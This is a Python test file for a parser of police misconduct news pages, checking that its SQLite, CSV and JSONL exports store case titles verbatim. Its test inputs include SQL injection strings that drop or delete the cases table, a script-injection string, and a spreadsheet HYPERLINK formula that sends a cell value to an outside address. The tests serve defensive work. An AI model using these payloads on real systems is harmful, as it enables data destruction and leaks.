"""Words of a page that would mean something to what opens the file are words in it, and nothing else."""

from __future__ import annotations

import csv
import json
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

import misconduct_parse as mp
from misconduct_parse.export.output import Output

TITLES = (
    "x'); DROP TABLE cases; --",
    '"; DELETE FROM "cases"; --',
    '=HYPERLINK("https://192.0.2.1/?"&A1;"PC A dismissed")',
    "</script><script>alert(1)</script>",
    "a\r\nb,c\td",
)


@pytest.mark.parametrize("title", TITLES)
def test_a_title_is_a_title_in_every_file(title: str, tmp_path: Path) -> None:
    source = f"---\ntitle: {json.dumps(title)}\n---\n\nPC A of Essex Police was dismissed at a misconduct hearing.\n"
    case = mp.parse(source, format="force_news")
    assert case.title
    for name in ("out.sqlite", "out.csv", "out.jsonl"):
        with Output(tmp_path / name, table=None if name == "out.jsonl" else "cases") as output:
            output.add("page", case)
    with closing(sqlite3.connect(tmp_path / "out.sqlite")) as database:
        assert database.execute("SELECT title FROM cases").fetchall() == [(case.title,)]
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["title"] in (case.title, f"'{case.title}")
    assert not row["title"].startswith("=")
    assert json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))["title"] == case.title
